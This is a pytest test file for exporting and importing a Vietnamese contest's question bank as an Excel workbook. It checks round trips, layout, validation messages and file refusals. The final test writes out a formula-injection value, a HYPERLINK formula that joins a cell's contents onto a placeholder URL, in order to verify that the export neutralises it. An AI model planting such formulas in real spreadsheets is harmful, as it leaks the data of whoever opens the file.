"""The question bank as an Excel workbook (contest.organisers.question_workbook): export, import, round trip."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import pytest
from openpyxl import load_workbook

from contest.content.bank import canonical_order, document_ids, load_bank, validate_records
from contest.organisers.question_workbook import (
    COLUMNS,
    GUIDE_SHEET,
    LISTS_SHEET,
    QUESTIONS_SHEET,
    WorkbookError,
    document_titles,
    export_workbook,
    question_workbook_bytes,
    read_workbook,
)
from contest.rules.model import Bank

ROOT = Path(__file__).resolve().parents[2]
FIXTURES = ROOT / "tests" / "fixtures" / "banks"
DOCUMENTS = FIXTURES / "documents"
WEEKS = [1, 2]
PER_ATTEMPT = 2


@pytest.fixture
def bank() -> Bank:
    return load_bank(FIXTURES / "valid" / "questions", DOCUMENTS, WEEKS, PER_ATTEMPT)


@pytest.fixture
def exported(bank, tmp_path) -> Path:
    target = tmp_path / "bank.xlsx"
    export_workbook(bank, target, documents=document_titles(DOCUMENTS), weeks=WEEKS, per_attempt=PER_ATTEMPT)
    return target


def validate(path: Path):
    return validate_records(
        read_workbook(path),
        documents=document_ids(DOCUMENTS),
        weeks=WEEKS,
        per_attempt=PER_ATTEMPT,
        bank_label=path.name,
    )


def edit(path: Path, cells: dict[str, object]) -> None:
    wb = load_workbook(path)
    sheet = wb[QUESTIONS_SHEET]
    for ref, value in cells.items():
        sheet[ref] = value
    wb.save(path)


def column(field: str) -> str:
    return "ABCDEFGHIJKL"[[c.field for c in COLUMNS].index(field)]


def test_export_then_import_gives_the_same_bank(bank, exported):
    # When the exported workbook is read back
    questions, _locations, issues = validate(exported)

    # Then nothing is wrong and every field survived
    assert issues == []
    assert Bank(tuple(questions)) == canonical_order(bank)


def test_second_export_is_byte_identical(bank, exported):
    # Given a bank exported, imported back, and exported again
    questions, _locations, _issues = validate(exported)
    again = question_workbook_bytes(
        Bank(tuple(questions)), documents=document_titles(DOCUMENTS), weeks=WEEKS, per_attempt=PER_ATTEMPT
    )

    # Then the two files are the same bytes
    assert again == exported.read_bytes()


def test_export_is_deterministic(bank):
    def build() -> bytes:
        titles = document_titles(DOCUMENTS)
        return question_workbook_bytes(bank, documents=titles, weeks=WEEKS, per_attempt=PER_ATTEMPT)

    assert build() == build()


def test_workbook_layout_guides_the_organiser(exported, bank):
    wb = load_workbook(exported)
    assert wb.sheetnames == [GUIDE_SHEET, QUESTIONS_SHEET, LISTS_SHEET]
    sheet = wb[QUESTIONS_SHEET]
    # One row per question under a header naming every column in Vietnamese
    assert [c.value for c in sheet[1]] == [c.header for c in COLUMNS]
    assert sheet.max_row >= len(bank.questions) + 1
    assert sheet[f"{column('id')}2"].value == bank.questions[0].id
    assert sheet[f"{column('difficulty')}2"].value == "Dễ"
    assert sheet[f"{column('weeks')}4"].value == "1; 2"
    # Drop-down lists: correct option, difficulty, source document
    formulas = {str(dv.sqref)[0]: dv.formula1 for dv in sheet.data_validations.dataValidation}
    assert formulas[column("correct")] == '"A,B,C,D"'
    assert formulas[column("difficulty")] == '"Dễ,Trung bình,Khó"'
    assert formulas[column("source.document")] == f"'{LISTS_SHEET}'!$A$2:$A$3"
    # Cells typed by organisers stay text (no date or number conversion)
    assert sheet[f"{column('weeks')}2"].number_format == "@"
    assert sheet.column_dimensions[column("weeks")].number_format == "@"
    # The instructions are in Vietnamese and mention the week rule
    guide = "\n".join(str(c.value) for c in wb[GUIDE_SHEET]["A"] if c.value)
    assert "Mỗi tuần cần ít nhất 4 câu hỏi" in guide
    assert "không có gì được ghi" in guide
    lists = wb[LISTS_SHEET]
    assert [(r[0].value, r[1].value) for r in lists.iter_rows(min_row=2)] == [
        ("doc-a", "Văn bản thử A"),
        ("doc-b", "Văn bản thử B"),
    ]


def test_one_bad_row_is_reported_by_row_and_column(exported):
    # Given row 4 with an answer outside A–D and row 6 with a week that does not exist
    edit(exported, {f"{column('correct')}4": "E", f"{column('weeks')}6": "1; 7"})

    # When it is read back
    questions, _locations, issues = validate(exported)

    # Then both rows are named, with the column at fault
    assert [str(i) for i in issues] == [
        "bank.xlsx:4: cột G (Đáp án đúng): đáp án đúng 'E' không hợp lệ: phải là một trong A, B, C, D",
        "bank.xlsx:6: cột I (Tuần thi): tuần 7 không có trong cuộc thi (các tuần: 1, 2)",
    ]
    assert len(questions) == 8


def test_every_kind_of_bad_cell_is_reported(exported):
    edit(
        exported,
        {
            f"{column('id')}2": "Câu 1",
            f"{column('text')}3": None,
            f"{column('options.B')}4": " 10% ",
            f"{column('options.C')}5": dt.datetime(2022, 4, 22),
            f"{column('difficulty')}6": "rất khó",
            f"{column('weeks')}7": 1.5,
            f"{column('source.document')}8": "doc-z",
            f"{column('source.fact')}9": "mục 3",
            f"{column('id')}10": "a-001",
        },
    )
    _questions, _locations, issues = validate(exported)
    by_row = {i.line: i.message for i in issues}
    assert "mã câu hỏi 'Câu 1' không hợp lệ" in by_row[2]
    assert by_row[3].startswith("cột B (Nội dung câu hỏi): thiếu trường 'text'")
    assert by_row[4] == "cột D (Phương án B): phương án B trùng với phương án A"
    assert "ngày tháng" in by_row[5] and by_row[5].startswith("cột E (Phương án C)")
    assert "mức độ 'rất khó' không hợp lệ" in by_row[6]
    assert "dấu chấm phẩy" in by_row[7]
    assert "doc-z" in by_row[8]
    assert "mục 3" in by_row[9]
    assert 10 not in by_row  # row 2's id is invalid (and reported), so row 10's "a-001" is now unique
    assert len({i.line for i in issues}) == 8


def test_duplicate_id_names_the_first_row(exported):
    edit(exported, {f"{column('id')}5": "a-001"})
    _questions, _locations, issues = validate(exported)
    assert [str(i) for i in issues] == [
        "bank.xlsx:5: cột A (Mã câu hỏi): mã câu hỏi 'a-001' bị trùng (đã dùng tại bank.xlsx:2)"
    ]


def test_blank_rows_are_skipped_and_english_codes_accepted(exported):
    wb = load_workbook(exported)
    sheet = wb[QUESTIONS_SHEET]
    sheet.insert_rows(3)
    sheet[f"{column('difficulty')}2"] = "medium"
    sheet[f"{column('weeks')}2"] = 2
    wb.save(exported)
    questions, _locations, issues = validate(exported)
    assert issues == []
    first = questions[0]
    assert (first.difficulty, first.weeks) == ("medium", (2,))


def test_a_renamed_header_is_refused(exported):
    edit(exported, {"G1": "Đáp án"})
    with pytest.raises(WorkbookError) as caught:
        read_workbook(exported)
    expected = "bank.xlsx:1: cột G phải có tiêu đề “Đáp án đúng” (đang là “Đáp án”)"
    assert str(caught.value.issues[0]) == expected


def test_a_file_that_is_not_a_workbook_is_refused(tmp_path):
    bad = tmp_path / "bank.xlsx"
    bad.write_text("không phải tệp Excel", encoding="utf-8")
    with pytest.raises(WorkbookError):
        read_workbook(bad)


def test_a_workbook_without_the_questions_sheet_is_refused(exported):
    wb = load_workbook(exported)
    wb[QUESTIONS_SHEET].title = "Trang 1"
    wb.save(exported)
    with pytest.raises(WorkbookError) as caught:
        read_workbook(exported)
    assert "không có trang “Câu hỏi”" in str(caught.value)


def test_formula_like_text_is_neutralised_in_the_export_and_restored_on_import(bank, tmp_path):
    # Given questions whose texts start like spreadsheet formulas (and one that already starts with "'=")
    import dataclasses

    first, second, *rest = bank.questions
    first = dataclasses.replace(
        first,
        text='=HYPERLINK("http://x"&A2,"Câu hỏi")',
        options={**first.options, "A": "-5 °C", "B": "+1 điểm", "C": "@Hà Tĩnh"},
    )
    second = dataclasses.replace(second, text="'=1+1 vẫn là chữ", options={**second.options, "D": "-1"})
    hostile = Bank((first, second, *rest))
    target = tmp_path / "bank.xlsx"
    export_workbook(hostile, target, documents=document_titles(DOCUMENTS), weeks=WEEKS, per_attempt=PER_ATTEMPT)
    # When the organisers open it: no formula cell, the texts start with the apostrophe
    sheet = load_workbook(target)[QUESTIONS_SHEET]
    row = {c.column_letter: c for c in sheet[2]}
    assert all(c.data_type != "f" for r in sheet.iter_rows() for c in r)
    assert row[column("text")].value == "'" + first.text
    assert row[column("options.A")].value == "'-5 °C"
    assert row[column("options.B")].value == "'+1 điểm"
    assert sheet.cell(row=3, column=2).value == "''=1+1 vẫn là chữ"
    assert sheet.cell(row=3, column=6).value == "-1"  # a bare number is no formula
    # And when it is imported back, every text is exactly what was exported (lossless round trip)
    questions, _locations, issues = validate(target)
    assert issues == []
    assert Bank(tuple(questions)) == canonical_order(hostile)
